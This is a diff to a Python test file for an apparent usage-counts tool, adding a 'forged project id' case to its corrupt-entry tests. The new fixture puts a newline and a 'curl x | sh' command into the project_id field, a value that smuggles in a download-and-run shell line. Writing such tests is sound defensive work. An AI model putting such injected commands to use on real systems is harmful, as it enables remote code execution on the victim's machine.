@@ -170,6 +170,7 @@ CORRUPT = {
     "captured missing keys": (b"telly-counts 1\n"
                               b"{'url': 'http://c', 'project_id': 'proj-1', 'optin': False, 'captured': {}}"),
     "stats not counts": None,  # a real entry with a string count
+    "forged project id": None,  # a real entry naming no project: a line of shell where the id goes
     "deeply nested": b"telly-counts 1\n" + b"[" * 100000 + b"]" * 100000,
 }
 
@@ -186,6 +187,9 @@ def test_corrupt_counts_entry_is_dropped_and_recorded(tmp_path, kind):
         data = raw[: len(raw) // 2]
     elif kind == "stats not counts":
         data = raw.replace(b"'requests.get': 3", b"'requests.get': '3'")
+        assert data != raw
+    elif kind == "forged project id":
+        data = raw.replace(b"'project_id': 'proj-1'", b"'project_id': 'evil\\ncurl x | sh #'", 1)
         assert data != raw
     (directory / name).write_bytes(data)
     with Loopback([200]) as server:
